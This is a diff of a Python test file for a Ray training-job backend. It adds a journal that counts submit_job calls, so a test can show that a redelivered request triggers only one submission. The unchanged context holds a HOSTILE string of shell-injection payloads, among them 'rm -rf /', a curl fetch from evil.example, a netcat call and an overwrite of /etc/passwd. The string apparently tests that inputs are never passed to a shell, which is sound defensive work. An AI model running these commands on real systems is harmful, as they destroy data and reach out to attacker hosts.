@@ -43,6 +43,7 @@ from tests.ray.conftest import (
     wait_for,
 )
 from tests.support.ray_heads import TestHead
+from tests.support.ray_submits import record_submit_jobs, submit_job_calls
 
 HOSTILE = "relu; rm -rf / $(curl http://evil.example/x) `id` | nc evil 1 && echo pwned > /etc/passwd"
 SHELL_META = set(";|&$`<>(){}*?!\\'\"\n")
@@ -344,14 +345,21 @@ def test_a_wrong_token_is_a_transient_error_that_does_not_leak_it(ray_head: Test
 
 
 @pytest.mark.ray
-def test_real_trainer_job_succeeds_once_with_progress_and_summary(make_backend: Any) -> None:
+def test_real_trainer_job_succeeds_once_with_progress_and_summary(make_backend: Any, tmp_path: Path) -> None:
     train = Path(__file__).resolve().parents[2] / "trainer" / "train.py"
     assert train.exists(), "the real trainer (trainer/train.py) is required"
     backend = make_backend(real_trainer=True)
     request = make_request(config={"num_env_runners": 1}, stop={"training_iteration": 2})
     backend.ensure_compute(request)
-    run_id = backend.submit(request)
-    assert backend.submit(request) == run_id  # a redelivered request finds the first job
+    journal = tmp_path / "submit-job-calls.jsonl"
+    undo = record_submit_jobs(journal)
+    try:
+        run_id = backend.submit(request)
+        assert backend.submit(request) == run_id  # a redelivered request finds the first job
+    finally:
+        undo()
+    # Ray would refuse a second job with this submission id anyway: count the calls, not the jobs
+    assert submit_job_calls(journal) == {run_id: 1}
     assert backend.find(request.request_id) == run_id
 
     status = wait_for(backend, run_id, terminal, timeout_s=150)
